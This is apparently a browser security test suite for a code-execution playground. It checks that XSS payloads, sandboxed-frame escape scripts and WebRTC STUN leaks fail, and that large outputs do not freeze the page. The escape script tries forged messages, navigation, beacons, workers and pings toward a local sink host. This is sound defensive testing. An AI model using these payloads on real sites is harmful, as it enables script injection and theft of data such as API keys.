/**
 * Attacks on the browser playground from the outside: user code whose output tries to run script in
 * the page that holds the key (HTML-looking text in every field the page shows, hostile file names,
 * a sandboxed HTML display that tries to leave its frame), and outputs big enough to freeze a page.
 * Real Chromium against the built CLI on loopback with an API key, as in playground.test.ts.
 */
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import dgram from 'node:dgram';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildWeb } from '../../scripts/build-web.js';
import { TEST_IMAGES } from '../helpers/engine.js';
import { listeningUrl } from '../interfaces/helpers/server-process.js';

const CLI = path.resolve('dist/src/cli.js');
const KEY = `attack-key-${randomBytes(12).toString('hex')}`;
const CHROMIUM = process.env.CODECELL_CHROMIUM ?? '/usr/bin/chromium';

let dataDir: string;
let server: ChildProcess;
let origin: string;
let browser: Browser;
let context: BrowserContext;
let page: Page;
/** Every request of the page's frames that got an answer (Chromium also reports requests CSP blocked). */
const answered: { url: string; fromMainFrame: boolean }[] = [];
/** Another host on loopback: anything it receives left the page. */
let sink: http.Server;
let sinkUrl: string;
const sinkHits: string[] = [];
const popups: string[] = [];

async function run(code: string): Promise<void> {
  await page.selectOption('#language', 'python');
  const before = Number((await page.getAttribute('#output', 'data-run')) ?? '0');
  await page.click('.cm-content');
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(code);
  await page.keyboard.press('ControlOrMeta+Enter');
  await page.waitForSelector(`#output[data-run="${before + 1}"]`);
}

/** What a script injected into the page would have left behind. */
async function injected(): Promise<unknown> {
  return page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned ?? null);
}

beforeAll(async () => {
  expect(existsSync(CHROMIUM), `${CHROMIUM} missing: scripts/ensure-chromium.sh installs it`).toBe(true);
  spawnSync('npx', ['tsc', '-p', '.'], { stdio: 'ignore' });
  await buildWeb();
  dataDir = mkdtempSync(path.join(os.tmpdir(), 'codecell-playground-attacks-'));
  server = spawn(process.execPath, [CLI, 'serve', '--port', '0'], {
    env: {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      HOME: process.env.HOME ?? os.tmpdir(),
      CODECELL_DATA_DIR: dataDir,
      CODECELL_API_KEYS: KEY,
      // The largest results an admin can allow, so every display the runner may send reaches the page.
      CODECELL_MAX_RESULT_CHARS: '100000000',
      CODECELL_POOL_PYTHON: '1',
      CODECELL_POOL_PYTHON_LEAN: '0',
      CODECELL_POOL_NODE: '0',
      CODECELL_POOL_BASH: '0',
      ...TEST_IMAGES,
    },
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  origin = new URL(await listeningUrl(server)).origin;
  sink = http.createServer((req, res) => {
    sinkHits.push(req.url ?? '');
    res.end();
  });
  await new Promise<void>((resolve) => sink.listen(0, 'localhost', resolve));
  sinkUrl = `http://localhost:${(sink.address() as AddressInfo).port}`;
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  context.on('response', (response) => {
    answered.push({ url: response.url(), fromMainFrame: response.frame() === page.mainFrame() });
  });
  context.on('page', (opened) => popups.push(opened.url()));
  page = await context.newPage();
  page.setDefaultTimeout(90_000);
  await page.goto(`${origin}/`);
  await page.waitForSelector('#key-dialog[open]');
  await page.fill('#key-input', KEY);
  await page.click('#key-submit');
  await page.waitForSelector('body[data-ready="true"]');
}, 300_000);

afterAll(async () => {
  await browser?.close();
  sink?.close();
  if (server !== undefined && server.exitCode === null) {
    const exited = new Promise((resolve) => server.once('exit', resolve));
    server.kill('SIGTERM');
    await exited;
  }
  if (dataDir !== undefined) rmSync(dataDir, { recursive: true, force: true });
});

const PAYLOAD = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>';

describe('playground under attack (Chromium)', { timeout: 300_000 }, () => {
  it('shows HTML-looking text from every output field as text', async () => {
    await run(
      [
        'import sys, pandas as pd',
        `P = ${JSON.stringify(PAYLOAD)}`,
        'print(P + "\\u202e" + "\\x1b[31m" + "\\x00")',
        'print(P, file=sys.stderr)',
        'open(P.replace("/", "_") + ".txt", "w").write("x")',
        'open("q\\"uote\'s.txt", "w").write("y")',
        'display(pd.DataFrame({P: [P, None]}, index=[P, "\\u202eevil"]))',
        'raise ValueError(P)',
      ].join('\n'),
    );
    const output = await page.textContent('#output');
    expect(output).toContain(PAYLOAD);
    expect(await page.textContent('#output pre.stderr')).toContain(PAYLOAD);
    expect(await page.textContent('#output pre.traceback .error-line')).toContain(`ValueError: ${PAYLOAD}`);
    expect(await page.$$eval('#output table.frame th', (cells) => cells.filter((cell) => cell.textContent === '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>').length)).toBe(2);
    await page.click('#files-refresh');
    await page.waitForSelector('#files li[data-path="q\\"uote\'s.txt"]');
    expect(await page.$$eval('#files li .name', (names) => names.map((name) => name.textContent))).toContain(`${PAYLOAD.replace('/', '_')}.txt`);
    // Not one element came from the text: no <img>, no <script> anywhere in the page's output or lists.
    expect(await page.$$eval('#output img, #output script, #files img, #files script, #history img, #history script', (nodes) => nodes.length)).toBe(0);
    await page.click('summary:text("History of this session")');
    await page.waitForSelector('#history li');
    expect(await injected()).toBeNull();
  });

  it('keeps a sandboxed HTML display from leaving its frame', async () => {
    const before = answered.length;
    const popupsBefore = popups.length;
    const escape = [
      '<p id="probe">pending</p><script>',
      'const tried = {};',
      'const attempt = (name, action) => { try { action(); tried[name] = "done"; } catch (e) { tried[name] = "blocked:" + e.name; } };',
      // Forged messages of the page's own protocol, to every window above.
      'attempt("forge", () => { parent.postMessage({ type: "codecell-frame-ready" }, "*"); top.postMessage({ type: "codecell-html", html: "<img src=x onerror=window.pwned=3>" }, "*"); });',
      'attempt("popup", () => { if (window.open("/?popup") === null) throw new Error("null"); });',
      'attempt("top", () => { top.location.href = "/?navigated"; });',
      'attempt("opener", () => { if (window.opener) window.opener.location = "/?opener"; });',
      'attempt("form", () => { const f = document.createElement("form"); f.method = "POST"; f.action = "/mcp"; f.target = "_top"; document.body.append(f); f.submit(); });',
      'attempt("beacon", () => navigator.sendBeacon("/mcp", "{}"));',
      'attempt("image", () => { new Image().src = "/v1/sessions/default/files?leak=1"; new Image().src = "SINK/image"; });',
      'attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch(\'SINK/worker\')"]))); });',
      'attempt("nested", () => { const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch("SINK/nested").catch(() => {}); });',
      '</script><link rel="stylesheet" href="SINK/css"><link rel="prefetch" href="SINK/prefetch"><script>',
      'document.getElementById("probe").textContent = JSON.stringify(tried);',
      '</script>',
    ].join('\n');
    await run(['class Escape:', `    def _repr_html_(self): return ${JSON.stringify(escape.replaceAll('SINK', sinkUrl))}`, '', 'Escape()'].join('\n'));
    await page.click('#output button.run-scripts');
    const probe = page.frameLocator('#output iframe.html-output').locator('#probe');
    await probe.filter({ hasNotText: 'pending' }).waitFor();
    const tried = JSON.parse((await probe.textContent()) ?? '{}') as Record<string, string>;
    expect(tried.top).toMatch(/^blocked:/);
    // The page is still itself, with its key, and nothing the frame sent reached the page or the network.
    await run('print("still here")');
    expect(await page.textContent('#output pre.stdout')).toBe('still here\n');
    expect(await page.evaluate(() => sessionStorage.getItem('codecell.apiKey'))).toBe(KEY);
    expect(popups.length).toBe(popupsBefore);
    expect(await injected()).toBeNull();
    // Leaving by navigation (the frame's own, a link with ping, a refresh) lands nowhere but the frame's error page.
    const leave = [
      '<script>',
      'const a = document.createElement("a"); a.href = "SINK/a"; a.ping = "SINK/ping"; document.body.append(a); a.click();',
      'setTimeout(() => { location.href = "SINK/navigate"; }, 0);',
      '</script><meta http-equiv="refresh" content="0;url=SINK/refresh">',
    ].join('\n');
    await run(['from IPython.display import HTML, display', `display(HTML(${JSON.stringify(leave.replaceAll('SINK', sinkUrl))}))`].join('\n'));
    const leftShell = page.waitForEvent('framenavigated', (frame) => frame !== page.mainFrame() && !frame.url().endsWith('/playground/frame.html') && frame.url() !== 'about:srcdoc');
    await page.click('#output button.run-scripts');
    const landed = await leftShell;
    expect(landed.url()).not.toContain(sinkUrl.replace('http://', ''));
    await run('print("still here")');
    expect(page.url()).toBe(`${origin}/`);
    const fromFrames = answered.slice(before).filter((request) => !request.fromMainFrame && !request.url.endsWith('/playground/frame.html'));
    expect(fromFrames).toEqual([]);
    expect(sinkHits).toEqual([]);
  });

  it('runs no script of an HTML display unless asked, so no WebRTC packet leaves by default', async () => {
    const stun = dgram.createSocket('udp4');
    const packets: Buffer[] = [];
    const firstPacket = new Promise<void>((resolve) => stun.on('message', (message) => { packets.push(message); resolve(); }));
    await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
    try {
      const { port } = stun.address();
      const rtc = [
        '<p id="probe">pending</p><script>',
        `const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] });`,
        'pc.createDataChannel("leak");',
        'pc.createOffer().then((offer) => pc.setLocalDescription(offer));',
        'document.getElementById("probe").textContent = "started";',
        '</script>',
      ].join('\n');
      await run(['from IPython.display import HTML, display', `display(HTML(${JSON.stringify(rtc)}))`].join('\n'));
      const frame = page.frameLocator('#output iframe.html-output');
      // The frame shows the HTML, but its script never started, so it could not open a peer connection.
      expect(await frame.locator('#probe').textContent()).toBe('pending');
      expect(await page.getAttribute('#output iframe.html-output', 'sandbox')).toBe('');
      expect(packets).toEqual([]);
      // Asked to, the script runs and its STUN request reaches the listener: the gap the default closes is real.
      await page.click('#output button.run-scripts');
      await frame.locator('#probe').filter({ hasText: 'started' }).waitFor();
      await firstPacket;
      expect(packets[0]?.readUInt16BE(0)).toBe(0x0001); // STUN Binding Request
      expect(await injected()).toBeNull();
    } finally {
      stun.close();
    }
  });

  it('stays usable after 19 HTML displays of 256 KB and a 200 x 50 table', async () => {
    await run(
      [
        'import pandas as pd',
        'from IPython.display import HTML, display',
        'for n in range(19): display(HTML("<p>" + str(n) + "</p>" + "x" * (255 * 1024)))',
        'pd.DataFrame([[f"{r}-{c}" for c in range(60)] for r in range(1_000_000 // 60)])',
      ].join('\n'),
    );
    expect(await page.$$eval('#output iframe.html-output', (frames) => frames.length)).toBe(19);
    expect(await page.$$eval('#output table.frame tbody tr', (rows) => rows.length)).toBe(200);
    await run('print(1 + 1)');
    expect(await page.textContent('#output pre.stdout')).toBe('2\n');
  });

  it('keeps only the tail of a long live stream, so the page stays light while a run prints for long', async () => {
    await page.selectOption('#language', 'python');
    const before = Number((await page.getAttribute('#output', 'data-run')) ?? '0');
    await page.click('.cm-content');
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.press('Delete');
    // About 100 KB/s: far past the live bound within a second, yet hours from the run's 64 MiB output cap
    // (an unpaced loop reaches that cap in about a second on a fast machine, before any progress arrives).
    await page.keyboard.insertText('import itertools, time\nfor n in itertools.count():\n    print(f"{n:09d}" + "y" * 990, flush=True)\n    time.sleep(0.01)');
    await page.keyboard.press('ControlOrMeta+Enter');
    await page.waitForSelector('#output[data-state="running"] .live-cut');
    // Several more chunks after the first cut: the view stays at its bound.
    const lastLineOf = () => page.evaluate(() => Number(/(\d{9})y+\n$/.exec(document.querySelector('#output pre.stream-stdout')?.textContent ?? '')?.[1] ?? -1));
    const atCut = await lastLineOf();
    await page.waitForFunction((seen) => {
      const match = /(\d{9})y+\n$/.exec(document.querySelector('#output pre.stream-stdout')?.textContent ?? '');
      return match !== null && Number(match[1]) > seen + 200;
    }, atCut);
    const shown = await page.$$eval('#output pre', (blocks) => blocks.reduce((sum, block) => sum + (block.textContent ?? '').length, 0));
    // Exactly the bound (LIVE_MAX_CHARS in src/web/output.ts): the oldest characters went, the newest stayed.
    expect(shown).toBe(50_000);
    await page.click('#stop');
    await page.waitForSelector(`#output[data-run="${before + 1}"]`);
    expect(await page.textContent('#output')).toContain('Stopped');
  });
});

describe('playground on a server with a small result limit', { timeout: 300_000 }, () => {
  it('says what was cut to fit instead of dropping a table silently', async () => {
    const smallDir = mkdtempSync(path.join(os.tmpdir(), 'codecell-playground-small-'));
    const small = spawn(process.execPath, [CLI, 'serve', '--port', '0'], {
      env: {
        PATH: process.env.PATH ?? '/usr/bin:/bin',
        HOME: process.env.HOME ?? os.tmpdir(),
        CODECELL_DATA_DIR: smallDir,
        CODECELL_MAX_RESULT_CHARS: '4000',
        CODECELL_POOL_PYTHON: '1',
        CODECELL_POOL_PYTHON_LEAN: '0',
        CODECELL_POOL_NODE: '0',
        CODECELL_POOL_BASH: '0',
        ...TEST_IMAGES,
      },
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    try {
      const url = await listeningUrl(small);
      const smallContext = await browser.newContext();
      const smallPage = await smallContext.newPage();
      smallPage.setDefaultTimeout(90_000);
      await smallPage.goto(url);
      await smallPage.waitForSelector('body[data-ready="true"]');
      await smallPage.click('.cm-content');
      await smallPage.keyboard.press('ControlOrMeta+a');
      await smallPage.keyboard.press('Delete');
      await smallPage.keyboard.insertText('import pandas as pd\npd.DataFrame({f"column {i}": ["some text"] * 500 for i in range(20)})');
      await smallPage.click('#run');
      await smallPage.waitForSelector('#output[data-run="1"]');
      expect(await smallPage.$$eval('#output table.frame', (tables) => tables.length)).toBe(0);
      expect(await smallPage.textContent('#output p.cut-to-fit')).toMatch(/^Cut to fit the result size limit: .*display/i);
      await smallContext.close();
    } finally {
      const exited = new Promise((resolve) => small.once('exit', resolve));
      small.kill('SIGTERM');
      await exited;
      rmSync(smallDir, { recursive: true, force: true });
    }
  });
});
